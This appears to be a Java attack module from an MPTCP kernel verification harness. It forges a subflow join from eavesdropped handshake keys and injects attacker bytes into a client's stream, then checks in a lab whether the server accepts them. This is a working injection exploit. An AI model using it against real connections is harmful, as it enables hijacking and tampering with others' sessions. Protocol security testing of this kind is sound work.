package org.mptcpverify.kernel;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import org.mptcpverify.vocab.AttackId;
import org.mptcpverify.wire.Bytes;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * eavesdrop-handshake: with the two keys read from the captured MP_CAPABLE third ACK, the
 * attacker joins the connection from its own address (token and HMAC from the keys) and sends
 * bytes with a DSS mapping at the client's next data sequence number (IDSN of the client key + 1
 * + the bytes the client was seen sending). Success: the server kernel accepts the subflow and
 * the server application reads the attacker's bytes inside the client's stream.
 */
public final class EavesdropHandshake implements KernelAttack {
    static final byte[] INJECTED = "INJECTED BY ATTACKER\n".getBytes(StandardCharsets.US_ASCII);
    static final int ADDRESS_ID = 9;

    @Override
    public Profile profile() {
        return Profile.of(AttackId.EAVESDROP_HANDSHAKE, WRONG_KEYS);
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        CapturedConnection c = ctx.connection();
        if (c.checksumRequired()) {
            ctx.note("connection negotiated DSS checksums; this attacker does not compute them");
            return false;
        }
        ctx.note(String.format("attacker: token of the server key = %08x (from the captured third ACK)",
                c.serverToken()));
        Optional<ForgedJoin.Joined> joined = ForgedJoin.toServer(ctx, c, ADDRESS_ID);
        if (joined.isEmpty()) {
            return false;
        }
        long dsn = c.clientNextDsn();
        ctx.note("attacker: data sequence number = IDSN(client key) + 1 + " + c.fromClient().dataBytes()
                + " bytes seen = " + Long.toUnsignedString(dsn)
                + c.fromClient().dssEnd().stream().mapToObj(e -> e == dsn
                        ? " (agrees with the highest captured DSS mapping end)"
                        : " (captured DSS mapping end " + Long.toUnsignedString(e) + ")").findFirst().orElse(""));
        int appMark = ctx.server().eventCount();
        inject(ctx, c, joined.get(), dsn);

        Optional<JsonNode> got = ctx.server().awaitFrom(appMark, e -> "data".equals(e.path("event").asText()), 2_000);
        byte[] stream = ctx.server().received();
        ctx.note("server application read (whole stream, " + stream.length + " bytes): "
                + printable(stream));
        ctx.server().command("info");
        Optional<JsonNode> info = ctx.server().awaitFrom(appMark, e -> "info".equals(e.path("event").asText()), 2_000);
        int subflows = info.map(i -> i.path("info").path("subflows").asInt(-1)).orElse(-1);
        ctx.note("server MPTCP_INFO: additional subflows = " + subflows
                + info.map(i -> ", token " + i.path("info").path("token").asText()
                        + ", rcv_nxt " + i.path("info").path("rcv_nxt").asText()).orElse(""));
        Map<String, Long> delta = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + delta);

        byte[] expectedStream = concat(ctx.clientData(), INJECTED);
        boolean injected = got.isPresent() && Arrays.equals(stream, expectedStream);
        boolean accepted = delta.getOrDefault("MPTcpExtMPJoinAckRx", 0L) >= 1 && subflows >= 1;
        return injected && accepted;
    }

    /**
     * Sends {@link #INJECTED} on the attacker's joined subflow, mapped at data sequence number
     * {@code dsn} (subflow sequence 1) with a data ACK of the server's next DSN.
     */
    static void inject(AttackContext ctx, CapturedConnection c, ForgedJoin.Joined j, long dsn) throws IOException {
        MptcpOption.Dss dss = new MptcpOption.Dss(
                MptcpOption.Dss.F_ACK | MptcpOption.Dss.F_ACK8 | MptcpOption.Dss.F_MAPPING | MptcpOption.Dss.F_DSN8,
                OptionalLong.of(c.serverNextDsn()), OptionalLong.of(dsn), OptionalLong.of(1),
                OptionalInt.of(INJECTED.length), OptionalInt.empty());
        ctx.tap().send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), j.port(), c.serverPort(), j.seq(),
                j.ack(), TcpSegment.ACK | TcpSegment.PSH, Forge.WINDOW, List.of(Forge.mptcp(dss)), Bytes.of(INJECTED)));
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] r = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, r, a.length, b.length);
        return r;
    }

    static String printable(byte[] b) {
        StringBuilder s = new StringBuilder("\"");
        for (byte x : b) {
            int v = x & 0xff;
            if (v == '\n') s.append("\\n");
            else if (v >= 0x20 && v < 0x7f && v != '"' && v != '\\') s.append((char) v);
            else s.append(String.format("\\x%02x", v));
        }
        return s.append('"').toString();
    }
}
